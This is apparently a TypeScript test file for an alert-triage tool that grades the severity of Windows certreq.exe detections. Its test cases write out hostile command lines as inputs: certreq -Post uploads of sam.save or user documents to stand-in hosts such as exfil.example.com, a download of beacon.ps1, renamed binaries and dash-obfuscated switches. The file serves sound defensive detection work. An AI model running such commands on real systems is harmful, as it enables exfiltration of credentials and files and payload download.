import { test } from 'node:test';
import assert from 'node:assert/strict';
import { KNOWN_FP_NOTE, gradeCertreq, type TriageInput } from '../../src/triage/severity.js';
import { builtinEnrichers, enrichAlert } from '../../src/enrich/index.js';
import type { RuleMeta, Severity } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';

const CERTREQ = 'C:\\Windows\\System32\\certreq.exe';
const grade = (x: Partial<TriageInput>): ReturnType<typeof gradeCertreq> =>
  gradeCertreq({ image: CERTREQ, originalFileName: 'CertReq.exe', ...x });

/** The enrichment stage's grade of an alert of this rule (the built-in enrichers). */
const staged = (rule: { id: string; title: string; level?: Severity; extra?: Record<string, unknown> }, facts: { image?: string; originalFileName?: string; commandLine?: string }) => {
  const meta: RuleMeta = { references: [], tags: [], falsepositives: [], source: 'test', extra: {}, ...rule };
  return enrichAlert({ id: 'a', rule: meta, event: {} as WinEvent, matchedRules: [meta.id] }, facts, builtinEnrichers());
};

test('the README severity table, row by row', () => {
  const cases: Array<[Partial<TriageInput>, string, string]> = [
    [{ commandLine: 'certreq -Post -config https://x.example/u C:\\Users\\Public\\sam.save' }, 'critical', 'post_sensitive_exfil'],
    [{ commandLine: 'certreq -Post -config https://x.example/u \\\\fs01\\share\\a.csv' }, 'critical', 'post_sensitive_exfil'],
    [{ commandLine: 'certreq -Post -config https://x.example/ c:\\windows\\win.ini C:\\Users\\Public\\beacon.ps1' }, 'critical', 'post_executable_download'],
    [{ image: 'C:\\Users\\Public\\cr.exe', commandLine: 'cr.exe -Post -config https://x.example/ c:\\windows\\win.ini o.txt' }, 'critical', 'renamed_post'],
    [{ commandLine: 'certreq -Post -config https://x.example/ c:\\windows\\win.ini out.txt' }, 'high', 'post_download'],
    [{ commandLine: 'certreq -Post -config https://x.example/ c:\\windows\\win.ini' }, 'high', 'post_upload'],
    [{ image: 'C:\\Users\\Public\\cr.exe', commandLine: 'cr.exe -accept x.cer' }, 'high', 'renamed'],
    [{ image: 'C:\\ProgramData\\upd.exe', originalFileName: undefined, commandLine: 'upd.exe -Post -config http://203.0.113.45/p C:\\x\\a.rtf C:\\ProgramData\\p.txt' }, 'high', 'renamed_suspected'],
    [{ commandLine: 'certreq -Post -config ca01\\CA c:\\windows\\win.ini' }, 'medium', 'post_without_url'],
    [{ image: 'C:\\Tools\\upd.exe', originalFileName: 'Updater.exe', commandLine: 'upd.exe -Post -config http://203.0.113.45/p C:\\x\\a.rtf C:\\ProgramData\\p.txt' }, 'medium', 'not_certreq'],
    [{ image: 'C:\\Windows\\System32\\findstr.exe', originalFileName: 'FINDSTR.EXE', commandLine: 'findstr /s /i "http" C:\\Deploy\\PostConfig\\*.ini C:\\Windows\\win.ini' }, 'medium', 'not_certreq'],
    [{ image: 'C:\\Windows\\System32\\cmd.exe', originalFileName: 'Cmd.Exe', commandLine: 'cmd.exe /c certreq -Post -config https://x/ c:\\windows\\win.ini o' }, 'medium', 'not_certreq'],
    [{ commandLine: 'certreq -new -cert 9F2A C:\\Temp\\forge.inf C:\\Temp\\admin.cer' }, 'medium', 'cert_signing'],
    [{ commandLine: 'certreq -submit -config C:\\x C:\\Users\\bob\\Documents\\secret.docx out.cer' }, 'medium', 'admin_sensitive'],
    [{ commandLine: 'certreq -submit -config "CA01.contoso.com\\Contoso-Issuing-CA" C:\\certs\\web01.req C:\\certs\\web01.cer' }, 'low', 'admin_verb'],
    [{ commandLine: 'certreq -retrieve -config ca01\\CA 20 MyCertificate.cer' }, 'low', 'admin_verb'],
    [{ commandLine: 'certreq -accept certnew.cer' }, 'low', 'admin_verb'],
    [{ commandLine: 'certreq' }, 'informational', 'bare_or_help'],
    [{ commandLine: 'certreq -v -?' }, 'informational', 'bare_or_help'],
  ];
  for (const [input, severity, code] of cases) {
    const t = grade(input);
    assert.equal(t.grade, code, input.commandLine);
    assert.equal(t.severity, severity, input.commandLine);
  }
});

test('administrator verbs carry the known-false-positive note; attacks do not', () => {
  assert.ok(grade({ commandLine: 'certreq -submit -config ca01\\CA a.req a.cer' }).reason.includes(KNOWN_FP_NOTE));
  assert.ok(!grade({ commandLine: 'certreq -Post -config https://x/ c:\\windows\\win.ini o' }).reason.includes(KNOWN_FP_NOTE));
});

test('reasons name what happened: URL, file sent, response file', () => {
  const t = grade({ commandLine: 'certreq -Post -config https://exfil.example.com/upload C:\\Users\\bob\\Documents\\Q3-financials.xlsx' });
  assert.match(t.reason, /exfiltration/);
  assert.ok(t.reason.includes('https://exfil.example.com/upload'));
  assert.ok(t.reason.includes('Q3-financials.xlsx'));
  assert.ok(t.reason.includes('user document'));
});

test('obfuscated switches raise a -Post one step but not an administrator verb', () => {
  assert.equal(grade({ commandLine: 'certreq \u2013Post \u2013config https://x/ c:\\windows\\win.ini out.txt' }).severity, 'critical');
  const admin = grade({ commandLine: 'certreq \u2013enroll -machine \u2013cert "61 2d" Renew' });
  assert.equal(admin.severity, 'low');
  assert.match(admin.reason, /obfuscated/);
});

test('the companion rules are graded the same way; other Sigma rules keep their level unless they ask for certreq', () => {
  const post = staged({ id: 'certreq-post-url-no-winini', title: 'x', level: 'high' }, { image: CERTREQ, commandLine: 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save' });
  assert.equal(post.severity, 'critical');
  assert.equal((post.enrichments?.['certreq'] as { upload_file?: string }).upload_file, 'C:\\Users\\Public\\sam.save');
  assert.equal(staged({ id: 'certreq-renamed', title: 'x', level: 'high' }, { image: 'C:\\Users\\Public\\svchost.exe', originalFileName: 'CertReq.exe', commandLine: 'svchost.exe -accept a.cer' }).grade, 'renamed');
  const sigmaRule = { id: '4480827a-9799-4232-b2c4-ccc6c4e9e12b', title: 'Suspicious CertReq Command to Download', level: 'low' as const };
  const facts = { image: CERTREQ, commandLine: 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save' };
  const sigma = staged(sigmaRule, facts);
  assert.equal(sigma.severity, 'low');
  assert.equal(sigma.grade, 'rule_level');
  assert.equal(sigma.enrichments, undefined);
  assert.match(sigma.reason, /Suspicious CertReq Command to Download/);
  assert.equal(staged({ id: 'x', title: 'X' }, {}).severity, 'medium');
  // The same Sigma rule asking for the certreq enricher in its procwatch block is graded by it.
  const asked = staged({ ...sigmaRule, extra: { enrich: 'certreq' } }, facts);
  assert.equal(asked.grade, 'post_sensitive_exfil');
  assert.equal(asked.severity, 'critical');
});

test('reasons stay one line even when the command line has line breaks or is huge', () => {
  const t = grade({ commandLine: `certreq -Post -config https://x/ C:\\a\r\nb.txt ${'y'.repeat(50_000)}` });
  assert.ok(!/[\r\n]/.test(t.reason));
  assert.ok(t.reason.length < 1000);
});
